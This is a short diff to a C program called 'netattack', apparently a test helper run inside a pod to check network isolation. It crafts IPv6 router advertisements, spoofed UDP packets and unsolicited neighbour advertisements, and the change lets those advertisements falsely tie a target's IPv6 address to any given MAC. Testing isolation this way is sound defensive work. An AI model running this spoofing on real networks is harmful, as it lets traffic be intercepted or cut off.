@@ -12,9 +12,9 @@
                                                2001:db8:5d::/64 for SLAAC, this pod as default router
      udp6 GATEWAY_MAC SOURCE DESTINATION PORT  udp over IPv6 ("own": eth0's global address, "ll": its
                                                link-local one)
-     na VICTIM_IP6                             unsolicited neighbour advertisements to all nodes, from
-                                               eth0's link-local address: "VICTIM_IP6 is at eth0's MAC"
-                                               (override), every 100 ms for 1 s
+     na TARGET_IP6 [MAC]                       unsolicited neighbour advertisements to all nodes, from
+                                               eth0's link-local address: "TARGET_IP6 ("own": eth0's
+                                               address) is at MAC (eth0's)" (override), every 100 ms for 1 s
 
    Frames go out through a packet socket, so that neither the pod's routing nor its own checks
    stand in the way: only what the host and the bridge do decides what arrives. */
@@ -353,6 +353,8 @@ static int na(char **argv) {
     memcpy(icmp + 8, &victim, 16);
     icmp[24] = 2, icmp[25] = 1;
     memcpy(icmp + 26, own_mac, 6);
+    if (argv[1])
+        parse_mac(argv[1], icmp + 26);
     at += ipv6(frame + at, &own_link_local, &all_nodes, IPPROTO_ICMPV6, 255, length, 2);
     for (int i = 0; i < 10; i++) {
         send_frame(frame, at);
@@ -377,7 +379,7 @@ int main(int argc, char **argv) {
         return ra();
     if (strcmp(argv[1], "udp6") == 0 && argc == 6)
         return udp6(argv + 2);
-    if (strcmp(argv[1], "na") == 0 && argc == 3)
+    if (strcmp(argv[1], "na") == 0 && (argc == 3 || argc == 4))
         return na(argv + 2);
     fputs("netattack: bad arguments\n", stderr);
     return 2;
